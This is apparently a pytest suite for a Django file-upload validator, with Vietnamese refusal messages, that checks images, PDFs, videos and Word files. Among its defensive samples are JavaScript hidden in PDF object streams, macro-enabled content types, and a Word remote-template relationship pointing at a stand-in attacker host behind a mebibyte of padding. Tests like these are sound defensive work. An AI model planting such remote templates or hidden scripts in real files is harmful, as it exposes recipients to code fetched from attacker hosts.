            "don.pdf", lambda: b"%PDF-1.7\n" + random.Random(3).randbytes(400) + b"\nstartxref\n999999\n%%EOF\n",
            "uncheckable",
            "Không kiểm tra được nội dung tệp PDF don.pdf. Hãy in lại thành PDF thông thường rồi gửi.",
            id="uncheckable",
        ),
        pytest.param(
            "anh.png", lambda: truncated(png_bytes()), "unreadable",
            "Tệp anh.png bị hỏng hoặc không trọn vẹn, không đọc được như ảnh PNG. Hãy gửi lại tệp gốc.",
            id="unreadable",
        ),
        pytest.param(
            "don.pdf", lambda: truncated(pdf_bytes()), "unreadable",
            "Tệp don.pdf bị hỏng hoặc không trọn vẹn, không đọc được như tệp PDF. Hãy gửi lại tệp gốc.",
            id="unreadable_pdf",
        ),
        pytest.param("anh.png", lambda: b"", "empty", "Tệp anh.png trống, không có nội dung.", id="empty"),
    ],
)  # fmt: skip
def test_each_refusal_has_its_code_and_its_whole_message(name, build, code, message):
    error = refusal(name, build())

    assert (error.code, error.messages) == (code, [message])


def test_a_document_of_another_kind_is_told_which_kinds_documents_may_be():
    from core.uploads import DOCUMENT_TYPES

    with pytest.raises(ValidationError) as refused:
        check_upload(upload("bao-cao.doc", b"MZ\x90\x00" + bytes(60)), max_bytes=MAX_BYTES, kinds=DOCUMENT_TYPES)

    assert (refused.value.code, refused.value.messages) == (
        "unsupported_type",
        [
            "Tệp bao-cao.doc không thuộc loại được nhận. Chỉ nhận ảnh PNG, JPEG, WebP, tệp PDF, video MP4 "
            "hoặc văn bản Word (.docx)."
        ],
    )


def test_a_pdf_may_open_at_a_page_given_by_reference():
    content = handmade_pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>", PAGES, b"[2 0 R /Fit]")

    assert check_upload(upload("don.pdf", content), max_bytes=MAX_BYTES).content_type == "application/pdf"


def test_a_pdf_may_open_at_a_page_given_by_reference_from_an_object_stream():
    content = handmade_pdf(PLAIN_CATALOG, PAGES, b"[2 0 R /Fit]", object_stream(b"<< /OpenAction 3 0 R >>", number=5))

    assert check_upload(upload("don.pdf", content), max_bytes=MAX_BYTES).content_type == "application/pdf"


def test_an_object_stream_without_a_count_holds_nothing_and_is_accepted():
    content = handmade_pdf(PLAIN_CATALOG, PAGES, b"<< /Type /ObjStm /Length 0 >>\nstream\n\nendstream")

    assert check_upload(upload("don.pdf", content), max_bytes=MAX_BYTES).content_type == "application/pdf"


def two_object_stream(second: bytes) -> bytes:
    """An object stream holding a harmless object 4, then `second` as object 5."""
    first = b"<< /S /Named /N /NextPage >>"
    index = b"4 0 5 %d " % (len(first) + 1)
    packed = zlib.compress(index + first + b" " + second)
    header = b"<< /Type /ObjStm /N 2 /First %d /Filter /FlateDecode /Length %d >>\n" % (len(index), len(packed))
    return header + b"stream\n" + packed + b"\nendstream"


def test_javascript_in_the_second_object_of_an_object_stream_is_found():
    error = refusal("don.pdf", handmade_pdf(PLAIN_CATALOG, PAGES, two_object_stream(LINK_WITH_SCRIPT)))

    assert error.code == "active_content"


@pytest.mark.parametrize(
    "stream",
    [
        pytest.param(b"<< /Type /ObjStm /N -1 /First 0 /Length 0 >>\nstream\n\nendstream", id="a_negative_count"),
        pytest.param(b"<< /Type /ObjStm /N 0 /First 9 /Length 0 >>\nstream\n\nendstream", id="first_past_the_end"),
    ],
)
def test_an_object_stream_with_a_header_that_cannot_be_read_is_uncheckable(stream):
    error = refusal("don.pdf", handmade_pdf(PLAIN_CATALOG, PAGES, stream))

    assert error.code == "uncheckable"


@pytest.mark.parametrize(
    ("data", "end"),
    [
        pytest.param(SOI + SOS + b"\xff\x00" + EOI, 10, id="a_stuffed_ff_right_before_the_end"),
        pytest.param(SOI + SOS + b"\x12\xff\xff\x00\x34" + EOI, 13, id="fill_then_a_stuffed_ff_in_the_scan"),
    ],
)
def test_a_jpeg_scan_skips_stuffing_and_fill_exactly(data, end):
    assert _jpeg_end(data) == end


def test_a_webp_of_odd_size_ends_after_its_pad_byte():
    from core.uploads import _webp_end

    assert _webp_end(b"RIFF" + (5).to_bytes(4, "little") + b"WEBPx\x00") == 14
    assert _webp_end(b"RIFF" + (4).to_bytes(4, "little") + b"WEBP") == 12


def test_a_webp_claiming_more_than_it_holds_has_no_end():
    from core.uploads import _webp_end

    assert _webp_end(b"RIFF" + (100).to_bytes(4, "little") + b"WEBP") is None


def test_additional_actions_by_reference_from_an_object_stream_are_refused():
    page = b"<< /Type /Page /Parent 2 0 R /AA 3 0 R >>"
    content = handmade_pdf(
        PLAIN_CATALOG, PAGES, b"<< /O << /S /Named /N /NextPage >> >>", object_stream(page, number=5)
    )

    assert refusal("don.pdf", content).code == "active_content"


def test_a_pdf_whose_catalog_is_not_a_dictionary_is_uncheckable():
    assert refusal("don.pdf", handmade_pdf(b"[2 0 R]", PAGES)).code == "uncheckable"


# The smallest PDF here: a trailer (/Size, /Root), a catalog (/Type, /Pages) and an
# empty page tree (/Type, /Kids, /Count): 7 entries in 2 objects.
SMALLEST = handmade_pdf(PLAIN_CATALOG, PAGES)
# One object stream, decoding to "4 0 " and the 28 bytes of the named action: 32 bytes.
WITH_OBJECT_STREAM = handmade_pdf(PLAIN_CATALOG, PAGES, object_stream(b"<< /S /Named /N /NextPage >>"))


@pytest.mark.parametrize(
    ("limit", "value", "content"),
    [
        pytest.param("_PDF_MAX_NODES", 7, SMALLEST, id="entries"),
        pytest.param("_PDF_MAX_OBJECTS", 2, SMALLEST, id="objects"),
        pytest.param("_PDF_MAX_OBJECT_STREAM_BYTES", 32, WITH_OBJECT_STREAM, id="object_stream_bytes"),
    ],
)
def test_a_pdf_exactly_at_a_budget_passes_and_one_over_it_is_too_complex(monkeypatch, limit, value, content):
    monkeypatch.setattr(f"core.uploads.{limit}", value)
    assert check_upload(upload("don.pdf", content), max_bytes=MAX_BYTES).content_type == "application/pdf"

    monkeypatch.setattr(f"core.uploads.{limit}", value - 1)
    assert refusal("don.pdf", content).code == "too_complex"


def test_a_remote_template_behind_a_mebibyte_of_relationships_is_still_refused():
    from core.uploads import DOCUMENT_TYPES

    filler = "".join(
        f'<Relationship Id="rIdPad{n}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        f'hyperlink" Target="https://thuvienphapluat.vn/{n}" TargetMode="External"/>'
        for n in range(8000)
    )
    template = (
        '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'attachedTemplate" Target="http://ke-xau.example/mau.dotm" TargetMode="External"/>'
    )
    content = docx_bytes(rels=filler + template)

    with pytest.raises(ValidationError) as refused:
        check_upload(SimpleUploadedFile("bao-cao.docx", content), max_bytes=10**7, kinds=DOCUMENT_TYPES)

    assert refused.value.code == "hidden_content"


def minimal_docx(**members: bytes) -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as archive:
        archive.writestr("[Content_Types].xml", members.pop("content_types", b"<Types/>"))
        archive.writestr("word/document.xml", b"<w:document/>")
        for name, content in members.items():
            archive.writestr(name.replace("__", "/"), content)
    return output.getvalue()


def document_refusal(content: bytes) -> ValidationError:
    from core.uploads import DOCUMENT_TYPES

    with pytest.raises(ValidationError) as refused:
        check_upload(SimpleUploadedFile("bao-cao.docx", content), max_bytes=10**7, kinds=DOCUMENT_TYPES)
    return refused.value


def test_a_word_file_of_just_its_two_required_parts_is_accepted():
    from core.uploads import DOCUMENT_TYPES

    checked = check_upload(SimpleUploadedFile("bc.docx", minimal_docx()), max_bytes=10**7, kinds=DOCUMENT_TYPES)

    assert checked.content_type == DOCX_TYPE


DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


def test_a_word_file_without_its_document_is_refused_as_broken():
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        archive.writestr("word/styles.xml", b"<w:styles/>")

    error = document_refusal(output.getvalue())

    assert (error.code, error.messages) == (
        "unreadable",
        ["Tệp bao-cao.docx bị hỏng hoặc không trọn vẹn, không đọc được như văn bản Word (.docx). Hãy gửi lại tệp gốc."],
    )


def test_a_macro_enabled_word_file_is_refused():
    error = document_refusal(
        minimal_docx(content_types=b'<Types><Default ContentType="macroEnabled.main+xml"/></Types>')
    )

    assert (error.code, error.messages) == (
        "hidden_content",
        [
            "Tệp bao-cao.docx ngoài văn bản Word (.docx) còn chứa dữ liệu khác (tệp nén hoặc mã lệnh) nên không được nhận."
        ],
    )


@pytest.mark.parametrize(
    ("limit", "at_limit"),
    [
        pytest.param("_DOCX_MAX_MEMBERS", 2, id="parts"),
        pytest.param("_DOCX_MAX_UNCOMPRESSED", len(b"<Types/>") + len(b"<w:document/>"), id="unpacked_bytes"),
    ],
)
def test_a_word_file_at_its_unpacking_limit_passes_and_one_over_is_too_large(monkeypatch, limit, at_limit):
    from core.uploads import DOCUMENT_TYPES

    monkeypatch.setattr(f"core.uploads.{limit}", at_limit)
    assert check_upload(SimpleUploadedFile("bc.docx", minimal_docx()), max_bytes=10**7, kinds=DOCUMENT_TYPES)

    monkeypatch.setattr(f"core.uploads.{limit}", at_limit - 1)
    error = document_refusal(minimal_docx())
    assert (error.code, error.messages) == ("too_large", ["Tệp bao-cao.docx khi giải nén quá lớn: tối đa 100 MB."])


def test_an_upload_without_a_name_is_called_tep():
    error = refusal_of(io.BytesIO(png_bytes()))

    assert (error.code, error.messages) == (
        "extension_mismatch",
        ["Nội dung tệp tệp là ảnh PNG nhưng đuôi tên tệp là “(không có)”. Hãy đặt lại tên cho đúng."],
    )


def refusal_of(file) -> ValidationError:
    with pytest.raises(ValidationError) as caught:
        check_upload(file, max_bytes=MAX_BYTES)
    return caught.value


def test_a_file_with_only_the_first_bytes_of_a_png_signature_is_not_a_png():
    assert refusal("anh.png", b"\x89PNG" + bytes(60)).code == "unsupported_type"


def test_an_mp4_whose_media_data_happens_to_hold_zip_markers_is_accepted():
    content = FTYP + box(b"mdat", b"frames PK\x03\x04 PK\x05\x06 more frames")

    assert check_upload(upload("video.mp4", content), max_bytes=MAX_BYTES).content_type == "video/mp4"


PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"


def chunk(kind: bytes, body: bytes, length: int | None = None) -> bytes:
    size = len(body) if length is None else length
    return size.to_bytes(4, "big") + kind + body + zlib.crc32(kind + body).to_bytes(4, "big")


def test_a_png_ends_after_its_iend_chunk_only_when_that_chunk_is_whole():
    from core.uploads import _png_end

    assert _png_end(PNG_SIGNATURE + chunk(b"IEND", b"")) == 20
    assert _png_end(PNG_SIGNATURE + chunk(b"IEND", b"", length=4)) is None
    assert _png_end(PNG_SIGNATURE + chunk(b"tEXt", b"a\x00b")) is None
    assert _png_end(PNG_SIGNATURE + chunk(b"tEXt", b"", length=0xFFFFFFF0) + chunk(b"IEND", b"")) is None


def test_markup_in_a_png_text_keyword_counts():
    content = png_with_text(lambda info: info.add_text("<svg", "x"))

    assert check_upload(upload("anh.png", content), max_bytes=MAX_BYTES).received_kept is False


def test_a_png_with_plain_latin_text_is_kept_as_received():
    content = png_with_text(lambda info: info.add_text("Comment", "Chup luc 9 gio"))

    assert check_upload(upload("anh.png", content), max_bytes=MAX_BYTES).received_kept is True


def test_a_checksum_byte_that_looks_like_markup_is_not_text():
    # A comment whose tEXt chunk's CRC begins with 0x3C ("<"): the CRC is not text.
    text = next(
        f"Chup luc {n}"
        for n in range(100_000)
        if zlib.crc32(b"tEXtComment\x00" + f"Chup luc {n}".encode()) >> 24 == 0x3C
    )
    content = png_with_text(lambda info: info.add_text("Comment", text))

    assert check_upload(upload("anh.png", content), max_bytes=MAX_BYTES).received_kept is True


def test_a_pdf_whose_end_marker_is_more_than_a_kibibyte_from_the_end_is_broken():
    pdf = handmade_pdf(PLAIN_CATALOG, PAGES)  # ends with "%%EOF\n"

    assert refusal("don.pdf", pdf + b" " * 1019).code == "unreadable"
    assert check_upload(upload("don.pdf", pdf + b" " * 1018), max_bytes=MAX_BYTES).content_type == "application/pdf"


def test_a_pdf_the_parser_fails_on_is_uncheckable_and_named():
    stream = b"<< /Type /ObjStm /N 1 /First 4 /Filter /NoSuchDecode /Length 4 >>\nstream\nabcd\nendstream"

    error = refusal("don.pdf", handmade_pdf(PLAIN_CATALOG, PAGES, stream))

    assert (error.code, error.messages) == (
        "uncheckable",
        ["Không kiểm tra được nội dung tệp PDF don.pdf. Hãy in lại thành PDF thông thường rồi gửi."],
    )


def test_an_image_of_exactly_the_pixel_limit_is_accepted_and_one_over_is_refused(monkeypatch):
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", 64 * 48)
    assert check_upload(upload("anh.png", png_bytes()), max_bytes=MAX_BYTES).display

    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", 64 * 48 - 1)
    error = refusal("anh.png", png_bytes())
    assert (error.code, error.messages) == (
        "too_many_pixels",
        ["Ảnh anh.png có quá nhiều điểm ảnh để xử lý an toàn. Hãy giảm kích thước ảnh rồi gửi lại."],
    )


def test_the_display_copy_keeps_a_pngs_transparency():
    image = Image.new("P", (8, 8), 0)
    image.putpalette([255, 255, 255, 0, 0, 0])
    content = encode(image, "PNG", transparency=0)

    checked = check_upload(upload("logo.png", content), max_bytes=MAX_BYTES)

    assert decoded(checked.display).info["transparency"] == 0


def test_the_display_copy_of_a_jpeg_is_encoded_at_quality_90():
    checked = check_upload(upload("anh.jpg", jpeg_bytes()), max_bytes=MAX_BYTES)

    assert decoded(checked.display).quantization == decoded(encode(screenshot(), "JPEG", quality=90)).quantization


@pytest.mark.parametrize(
    ("limit", "shown"), [(1_048_576, "1"), (3 * 1_048_576, "3"), (1_572_864, "1,5"), (2_097_153, "2,0")]
)
def test_the_size_limit_is_given_in_whole_mb_or_with_one_decimal(limit, shown):
    [message] = refusal("video.mp4", mp4_bytes() + bytes(limit), max_bytes=limit).messages

    assert message == f"Tệp video.mp4 quá lớn: tối đa {shown} MB."


class Stream(io.BytesIO):
    """An upload that does not say how big it is (no `size`), as a raw stream."""

    def __init__(self, name: str, content: bytes) -> None:
        super().__init__(content)
        self.name = name


def test_a_file_of_exactly_the_limit_passes_and_one_byte_more_does_not():
    content = png_bytes()

    assert check_upload(upload("anh.png", content), max_bytes=len(content)).data == content
    assert check_upload(Stream("anh.png", content), max_bytes=len(content)).data == content
    assert refusal("anh.png", content, max_bytes=len(content) - 1).code == "too_large"


def test_an_upload_that_does_not_give_its_size_is_still_measured():
    content = png_bytes()

    with pytest.raises(ValidationError) as too_large:
        check_upload(Stream("anh.png", content), max_bytes=1024)
    with pytest.raises(ValidationError) as empty:
        check_upload(Stream("anh.png", b""), max_bytes=MAX_BYTES)

    assert too_large.value.code == "too_large"
    assert (empty.value.code, empty.value.messages) == ("empty", ["Tệp anh.png trống, không có nội dung."])


@pytest.mark.parametrize(
    ("raw_name", "shown"),
    [
        pytest.param("a" * 196 + ".png", "a" * 196 + ".png", id="exactly_200_characters"),
        pytest.param(" ..anh.png. ", "anh.png", id="dots_and_spaces_around"),
    ],
)
def test_a_name_at_the_length_limit_or_with_dots_around_is_shown_as_meant(raw_name, shown):
    assert check_upload(upload(raw_name, png_bytes()), max_bytes=MAX_BYTES).name == shown
